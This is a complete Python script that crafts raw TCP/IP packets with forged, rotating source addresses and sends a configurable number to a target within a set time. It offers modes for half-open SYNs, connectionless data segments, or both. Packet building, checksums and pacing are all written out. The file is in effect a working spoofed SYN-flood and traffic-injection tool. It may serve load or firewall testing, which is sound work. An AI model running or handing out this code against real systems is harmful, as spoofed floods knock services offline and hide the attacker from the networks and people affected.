"""Segments with forged sources: forged-segments.py data|syn|mixed TARGET COUNT SECONDS FIRST_SOURCE

data: requests that belong to no connection. syn: SYNs that nobody completes. mixed: a SYN and then a request for each. The
sources are the addresses from FIRST_SOURCE on, in rotation, with all ports."""

import ipaddress
import random
import socket
import struct
import sys
import time

REQUEST = b"GET /forged HTTP/1.1\r\nHost: forged\r\n\r\n"
SYN, ACK, PSH = 2, 16, 8


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(source, target, port, flags, payload):
    """A TCP segment in an IPv4 packet; the kernel adds the checksum of the IP header."""
    numbers = random.getrandbits(32), random.getrandbits(32) if flags & ACK else 0
    header = struct.pack("!HHIIBBHHH", port, target[1], *numbers, 5 << 4, flags, 64240, 0, 0)
    addresses = source.packed + socket.inet_aton(target[0])
    pseudo = addresses + struct.pack("!BBH", 0, 6, len(header) + len(payload))
    header = header[:16] + struct.pack("!H", checksum(pseudo + header + payload)) + header[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(header) + len(payload), 0, 0, 64, 6, 0) + addresses
    return ip + header + payload


def main():
    kind, address, port, count, seconds, first = *sys.argv[1:3], *map(int, sys.argv[3:5]), float(sys.argv[5]), sys.argv[6]
    target, first = (address, port), ipaddress.IPv4Address(first)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    began = time.monotonic()
    for number in range(count):
        source, from_port = first + number % 100, 1024 + number // 100 % 60000
        if kind in ("syn", "mixed"):
            raw.sendto(segment(source, target, from_port, SYN, b""), (address, 0))
        if kind in ("data", "mixed"):
            raw.sendto(segment(source, target, from_port, ACK | PSH, REQUEST), (address, 0))
        ahead = seconds * number / count - (time.monotonic() - began)
        if ahead > 0.001:
            time.sleep(ahead)
    print(count, "sent in", round(time.monotonic() - began, 1), "s")


main()
